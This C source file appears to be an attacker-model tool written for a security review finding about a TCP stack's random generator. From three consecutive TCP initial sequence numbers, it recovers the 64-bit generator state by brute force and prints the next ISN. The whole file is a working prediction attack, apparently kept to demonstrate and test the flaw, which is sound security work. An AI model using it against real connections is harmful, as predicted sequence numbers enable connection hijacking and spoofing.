/* The attacker's model of security review finding 6: smoltcp's generator (sPCG32, smoltcp 0.13
 * src/rand.rs, public) gives each TCP connection's initial sequence number (ISN); three ISNs
 * seen on connections one after the other give its 64-bit state away, and with it the next
 * ISN, whoever's connection that is. Each output is 32 bits of the state after its step:
 * bits SHIFT..SHIFT+31 with SHIFT = 29 - (state >> 61), so for each of the 8 values of the top 3
 * bits 29 bits are unknown: 2^32 candidates in all, each checked against the second and third
 * ISN (a wrong one matches both with probability 2^-64).
 *
 *   pcg32_predict ISN1 ISN2 ISN3   prints the next output, or "none" when no state gives
 *                                  those three (the ISNs are not three outputs in a row)
 * Built by tools/attacks/isn_predict.py with the system's C compiler (cc -O2). */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>

static const uint64_t M = 0xbb2efcec3c39611dULL;
static const uint64_t A = 0x7590ef39ULL;

static uint32_t output(uint64_t s) { return (uint32_t)(s >> (29 - (s >> 61))); }

int main(int argc, char **argv) {
  if (argc != 4) {
    fprintf(stderr, "usage: pcg32_predict ISN1 ISN2 ISN3\n");
    return 2;
  }
  uint32_t o1 = (uint32_t)strtoul(argv[1], 0, 0), o2 = (uint32_t)strtoul(argv[2], 0, 0),
           o3 = (uint32_t)strtoul(argv[3], 0, 0);
  for (uint64_t top = 0; top < 8; top++) {
    unsigned shift = 29 - (unsigned)top;
    for (uint64_t high = 0; high < (1ULL << top); high++) {
      uint64_t fixed = (top << 61) | (high << (shift + 32)) | ((uint64_t)o1 << shift);
      for (uint64_t low = 0; low < (1ULL << shift); low++) {
        uint64_t s2 = (fixed | low) * M + A;
        if (output(s2) != o2) continue;
        uint64_t s3 = s2 * M + A;
        if (output(s3) != o3) continue;
        printf("%u\n", output(s3 * M + A));
        return 0;
      }
    }
  }
  printf("none\n");
  return 0;
}
